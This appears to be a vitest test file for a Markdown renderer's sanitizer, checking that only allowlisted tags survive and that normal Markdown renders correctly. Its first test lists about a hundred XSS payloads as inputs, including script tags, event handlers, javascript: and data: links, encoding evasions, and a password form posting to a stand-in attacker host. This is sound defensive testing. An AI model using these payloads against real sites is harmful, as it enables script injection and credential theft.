import { describe, expect, it } from 'vitest';
import { limitTags } from './limit-tags.js';
import { renderMarkdown, withHtml } from './render-markdown.js';

const html = async (source: string) => (await renderMarkdown(source)).html;

/** Tags that a page may get, each in the one form in which it is written. */
const harmless = [
  /^<\/?(?:p|em|strong|del|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td)>$/,
  /^<(?:br|hr)>$/,
  /^<ol start="\d+">$/,
  /^<t[hd] align="(?:left|right|center)">$/,
  /^<code class="language-[\w+#.-]+">$/,
  /^<a href="(?:https?:\/\/|mailto:)[^"<>\s]+" rel="nofollow noopener noreferrer"(?: title="[^"<>]*")?>$/i,
  /^<\/a>$/,
];

/** Returns the tags that are none of these. */
function harmful(text: string): string[] {
  const tags = text.match(/<[^>]*>?|>/g) ?? [];
  return tags.filter((tag) => !harmless.some((form) => form.test(tag)));
}

describe('a text that would run something, load something or look like the page', () => {
  it.each([
    '<script>alert(1)</script>',
    '<script src=https://evil.example/x.js></script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/pixel.gif">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="https://evil.example/x.swf">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a onclick="alert(1)" href="https://example.com">x</a>',
    '<div style="position:fixed;inset:0">gone</div>',
    '<p id=app class=admin>x</p>',
    '<!-- <script>alert(1)</script> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?><script>alert(1)</script>',
    '<!DOCTYPE html><script>alert(1)</script>',
    '<details open ontoggle=alert(1)>x</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<title><img src=x onerror=alert(1)></title>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](&#106;&#97;&#118;&#97;script:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](&#x01;javascript:alert(1))',
    '[x]( javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](data:image/svg+xml,<svg onload=alert(1)>)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://example.com/1)',
    '[x](filesystem:https://example.com/1)',
    '[x](about:blank)',
    '[x](ws://example.com)',
    '[x](//evil.example)',
    '[x](/api/v1/oidc/logout)',
    '[x](#app)',
    '[x](?q=1)',
    '[x](https://example.com "onmouseover=alert(1) \\" onclick=alert(1)")',
    '[x](https://example.com/"onclick="alert(1))',
    "[x](https://example.com/'onclick='alert(1))",
    '[x](https://example.com/%22onclick=%22alert(1))',
    '[x](https://example.com/<script>alert(1)</script>)',
    '[<script>alert(1)</script>](https://example.com)',
    '[<img src=x onerror=alert(1)>](https://example.com)',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x]: <javascript:alert(1)> "t"\n\n[y][x]',
    '![x](javascript:alert(1))',
    '![x](https://evil.example/pixel.gif)',
    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
    '![x" onerror="alert(1)](https://example.com/a.png)',
    '![<script>alert(1)</script>](https://example.com/a.png "><script>alert(1)</script>")',
    '[![x](https://example.com/a.png)](javascript:alert(1))',
    '[![x](javascript:alert(1))](https://example.com)',
    '<javascript:alert(1)>',
    '<https://example.com/"onclick=alert(1)>',
    '<mailto:a@example.com?body=<script>alert(1)</script>>',
    'www.example.com/<script>alert(1)</script>',
    'https://example.com/"onmouseover=alert(1)',
    'javascript://example.com/%0aalert(1)',
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    '~~~<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n~~~',
    '    <script>alert(1)</script>',
    '| <script>alert(1)</script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
    '- [x] <script>alert(1)</script>',
    '~~<script>alert(1)</script>~~',
    '# <script>alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\\<script>alert(1)\\</script>',
    '[^1]: <script>alert(1)</script>\n\n[^1]',
    '<\u0000script>alert(1)</script>',
    '\u2028<script>alert(1)</script>\u2029',
    '<a\u0000href="javascript:alert(1)">x',
    '\u202e<script>alert(1)</script>',
    `${'>'.repeat(40)} <script>alert(1)</script>`,
    `${'*_'.repeat(4000)}<script>alert(1)</script>`,
    '"><svg/onload=alert(1)>',
    '{{constructor.constructor("alert(1)")()}}<x>',
  ])('is harmless: case %#', async (source) => {
    expect(harmful(await html(source))).toEqual([]);
  });

  it('of the renderer itself would be left out as well', () => {
    expect(limitTags('<script>x</script><p onclick="y">z</p><a href="javascript:1">a</a><p')).toBe('x<p>z</p>ap');
    expect(limitTags('<a href="https://a.example" onclick="x" target="_top">a</a>')).toBe(
      '<a href="https://a.example" rel="nofollow noopener noreferrer">a</a>',
    );
  });
});

describe('Markdown', () => {
  it.each([
    ['**a** _b_ ~~c~~ `d`', '<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>'],
    [
      '[a](https://b.example/?c=1&d=2 "e")',
      '<a href="https://b.example/?c=1&amp;d=2" rel="nofollow noopener noreferrer" title="e">a</a>',
    ],
    ['https://a.example', '<a href="https://a.example" rel="nofollow noopener noreferrer">https://a.example</a>'],
    [
      '![plan](https://a.example/b.png)',
      '<a href="https://a.example/b.png" rel="nofollow noopener noreferrer">plan</a>',
    ],
    [
      '[![ci](https://a.example/b.svg)](https://a.example)',
      '<a href="https://a.example" rel="nofollow noopener noreferrer">ci</a>',
    ],
    ['- [x] a\n- [ ] b', '☑ a'],
    ['3. a\n4. b', '<ol start="3">'],
    ['|a|b|\n|-|-:|\n|c|d|', '<td align="right">d</td>'],
    ['```sh\ndocker run a < b\n```', '<pre><code class="language-sh">docker run a &lt; b\n</code></pre>'],
    ['a <b>c</b> & d', '<p>a &lt;b&gt;c&lt;/b&gt; &amp; d</p>'],
    ['[a](docs/b.md)', '<p>a</p>'],
  ])('%j is shown', async (source, shown) => {
    expect(await html(source)).toContain(shown);
  });

  it('of a long text is rendered in pieces, whose links are defined in any of them', async () => {
    const paragraphs = Array.from({ length: 200 }, (_, at) => `Paragraph ${at} with a [link][here] and more words.\n`);
    const text = await html(`${paragraphs.join('\n')}\n[here]: https://a.example "t"\n`);
    expect(text.match(/<p>/g)).toHaveLength(200);
    expect(text.match(/href="https:\/\/a\.example"/g)).toHaveLength(200);
  });

  it('that would take the square of its length is shown as it was written', async () => {
    for (const text of ['['.repeat(60_000), '*_~'.repeat(20_000), '1. '.repeat(20_000), 'a\n-\n'.repeat(15_000)]) {
      expect(await html(text)).toMatch(/^<pre>[^<]*<\/pre>$/);
    }
    expect(await html(`first\n\n${'['.repeat(9000)}`)).toMatch(/^<pre>first/);
  });

  it('that another version of the program rendered is rendered again', async () => {
    const kept = [
      { source: '*a*', html: '<script>', html_version: 0 },
      { source: '*b*', html: '<p>kept</p>', html_version: 1 },
    ];
    expect((await withHtml(kept)).map((row) => row.html)).toEqual(['<p><em>a</em></p>', '<p>kept</p>']);
  });
});
